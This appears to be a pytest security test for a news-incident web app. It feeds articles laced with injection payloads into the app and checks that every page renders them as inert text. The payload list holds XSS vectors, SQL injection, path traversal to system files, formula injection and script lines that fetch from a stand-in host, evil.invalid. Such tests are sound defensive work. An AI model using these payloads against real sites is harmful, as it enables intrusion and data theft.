"""What comes from outside stays text: nothing in titles, names, addresses and texts is run, fetched or made markup."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from tests.browser.serving import Opener, served

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "'><svg/onload=alert(3)>",
    "javascript:alert(4)",
    "{{7*7}}{% raw %}${7*7}",
    "<iframe src=//evil.invalid/></iframe>",
    "<a href=javascript:alert(5)>Front</a>",
    "</textarea></title><style>@import'//evil.invalid'</style>",
    "&lt;script&gt;alert(6)&lt;/script&gt;&#x3C;img src=x&#x3E;",
    "'; DROP TABLE article; --",
    '" OR 1=1 /*',
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini\u202egpj.exe",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(7)>",
    "\u0000\u0008\u001b[31mred\u2028\u2029",
    "' hx-get='//evil.invalid' hx-trigger='load' x='",
    "</script><script>fetch('//evil.invalid')</script>",
    '=HYPERLINK("//evil.invalid")',
)
PAGES = (
    *(
        "/incidents",
        "/articles",
        "/people",
        "/review",
        "/review/agreement",
        "/samples",
        "/sources",
        "/cases",
        "/intake",
    ),
    *("/changes", "/by-hand", "/keys"),
)


def _articles() -> Iterator[dict[str, Any]]:
    for number, bad in enumerate(PAYLOADS):
        text = (
            f'Gunmen of the {bad} Front shot dead three villagers in Ebrilla on 3 May 2019, police said. "{bad}", said'
            f" Colonel Orso {bad} Maro, a spokesman for the Interior Ministry, who accused the {bad} Front of the"
            f' attack. The Front denied it.\n\nTwo men, Tomas "{bad}" Reljic and Ivo Kestan, were arrested.'
        )
        yield {
            "id": f"a{number}/{bad}"[:80], "title": f"Three shot dead {bad}", "outlet": f"Courier {bad}",
            "url": bad if number % 2 else f"https://news.invalid/{bad}", "published": "2019-05-04", "text": text,
        }  # fmt: skip


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from sayso.cli.main import run

    folder = tmp_path_factory.mktemp("hostile")
    (folder / "in.jsonl").write_text("".join(json.dumps(one) + "\n" for one in _articles()), encoding="utf-8")
    run(["ingest", str(folder / "in.jsonl"), "--db", str(folder / "hostile.db")])
    return folder / "hostile.db"


def test_nothing_that_comes_from_outside_is_run_or_fetched(hostile: Path, tmp_path: Path, opened: Opener) -> None:
    own = tmp_path / "hostile.db"
    shutil.copy(hostile, own)
    with served(own) as site:
        page = opened(site, "/incidents?limit=100")
        seen: set[str] = set()
        waiting = list(PAGES)
        while waiting and len(seen) < 90:
            path = waiting.pop(0)
            if _sort(path) in seen:
                continue
            seen.add(_sort(path))
            answer = page.goto(site + path)
            assert answer is not None and answer.status < 500, (path, answer and answer.status)
            assert page.locator("script:not([src])").count() == 0, path
            assert page.locator("iframe, main img, [onerror], [onload], base, object").count() == 0, path
            for url in page.eval_on_selector_all(
                "a[href]", 'links => links.map(a => new URL(a.getAttribute("href"), location.href).href)'
            ):
                assert re.match(r"https?:", url), (path, url)
                local = url.removeprefix(site)
                if local != url and not local.split("?")[0].endswith((".json", ".csv", ".geojson")):
                    waiting.append(local.partition("#")[0])
        assert any(path.startswith("/incident/") for path in seen)
        assert any(path.startswith("/article/") for path in seen)


def _sort(path: str) -> str:
    """Return what stands for pages of one sort: each article and incident once, lists in a few orders only."""
    bare, _, query = path.partition("?")
    return bare if not query or bare.startswith(("/article/", "/incident/")) else bare + "?" + query.split("=")[0]


@pytest.mark.parametrize("bad", PAYLOADS)
def test_a_hostile_request_is_answered_as_text(hostile: Path, bad: str, opened: Opener, hostile_site: str) -> None:
    page = opened(hostile_site, f"/incidents?text={quote(bad)}")
    for path in ("/incidents?kind=", "/incidents?place=", "/people?name=", "/articles?text=", "/changes?author="):
        page.goto(hostile_site + path + quote(bad))
        assert page.locator("script:not([src]), iframe, main img").count() == 0, path
    for path in ("/incident/", "/article/", "/entity/", "/cases/", "/sources/"):
        answer = page.request.get(hostile_site + path + quote(bad, safe=""))
        assert answer.status < 500, (path, answer.status)


@pytest.fixture(scope="module")
def hostile_site(hostile: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    own = tmp_path_factory.mktemp("site") / "hostile.db"
    shutil.copy(hostile, own)
    with served(own) as site:
        yield site
